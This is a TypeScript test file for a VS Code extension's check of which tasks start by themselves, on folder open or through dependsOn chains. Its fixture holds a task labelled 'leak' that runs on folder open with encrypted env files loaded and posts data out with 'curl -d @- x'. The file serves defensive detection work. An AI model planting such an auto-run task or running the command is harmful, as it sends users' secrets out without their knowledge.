// Which custodian tasks start without the person (src/extension/run/auto-started-tasks.ts): tasks.json as
// VS Code reads it (comments, trailing commas), runOn "folderOpen" and dependsOn chains.
import { strict as assert } from 'node:assert';
import { autoStartedTasks, EVERY_CUSTODIAN_TASK, startsByItself, taskEntries } from '../../src/extension/run/auto-started-tasks';

const TASKS = `{
  // a comment, as tasks.json allows
  "version": "2.0.0",
  "tasks": [
    { "label": "leak", "type": "custodian", "command": "sh", "args": ["-c", "curl -d @- x"], "envFiles": [".env.enc"], "runOptions": { "runOn": "folderOpen" } },
    { "label": "setup", "type": "shell", "command": "true", "runOptions": { "runOn": "folderOpen" }, "dependsOn": ["step"] },
    { "label": "step", "type": "shell", "command": "true", "dependsOn": "deploy" },
    { "label": "deploy", "type": "custodian", "command": "node", "args": ["deploy.js"], "envFiles": [".env.enc"], "dependsOn": "setup" },
    { "label": "dev", "type": "custodian", "command": "npm", "args": ["run", "dev"], "envFiles": [".env.enc"] },
    { "type": "custodian", "command": "node", "args": ["unlabelled.js"], "envFiles": [".env.enc"], "runOptions": { "runOn": "folderOpen" } },
  ],
}`;

describe('custodian tasks that start by themselves', () => {
  it('a task with runOn folderOpen, and the tasks its dependsOn chain reaches (a cycle too); not a task started by hand', () => {
    const auto = autoStartedTasks(taskEntries(TASKS));
    assert.deepEqual([...auto.labels].sort(), ['deploy', 'leak']);
    assert.equal(auto.everyCustodianTask, false);
    assert.ok(startsByItself(auto, { label: 'leak', command: 'sh', args: ['-c', 'curl -d @- x'] }));
    assert.ok(startsByItself(auto, { label: 'deploy', command: 'node', args: ['deploy.js'] }));
    assert.ok(!startsByItself(auto, { label: 'dev', command: 'npm', args: ['run', 'dev'] }));
    // Without a label, VS Code names the task itself: known by its command line.
    assert.ok(startsByItself(auto, { label: 'custodian: node', command: 'node', args: ['unlabelled.js'] }));
  });

  it('a dependsOn naming a task no file defines (a provider\'s, Custodian\'s ready-made "custodian: npm run dev") counts that task', () => {
    const auto = autoStartedTasks(taskEntries('{"tasks":[{"label":"a","type":"shell","command":"true","runOptions":{"runOn":"folderOpen"},"dependsOn":["custodian: npm run dev"]}]}'));
    assert.ok(startsByItself(auto, { label: 'npm run dev', command: 'npm', args: ['run', 'dev'] }));
  });

  it('a dependsOn naming a custodian task by its definition makes every custodian task suspect', () => {
    const auto = autoStartedTasks(taskEntries('{"tasks":[{"label":"a","type":"shell","command":"true","runOptions":{"runOn":"folderOpen"},"dependsOn":{"type":"custodian","command":"node"}}]}'));
    assert.equal(auto.everyCustodianTask, true);
    assert.ok(startsByItself(auto, { label: 'anything', command: 'x' }));
  });

  it('the tasks member of a .code-workspace file; a file that does not parse, or has no tasks, gives none', () => {
    const workspace = '{ "folders": [{ "path": "." }], "tasks": { "version": "2.0.0", "tasks": [{ "label": "w", "type": "custodian", "command": "x", "runOptions": { "runOn": "folderOpen" } }] } }';
    assert.deepEqual([...autoStartedTasks(taskEntries(workspace, 'tasks')).labels], ['w']);
    for (const text of ['', 'not json', '{"tasks": 3}', '[]', '{"version":"2.0.0"}']) assert.deepEqual(taskEntries(text), []);
    const none = autoStartedTasks([]);
    assert.ok(!startsByItself(none, { label: 'dev', command: 'npm', args: ['run', 'dev'] }));
    // A file that exists but could not be read stands for any task.
    assert.ok(startsByItself(EVERY_CUSTODIAN_TASK, { label: 'dev', command: 'npm', args: ['run', 'dev'] }));
  });
});
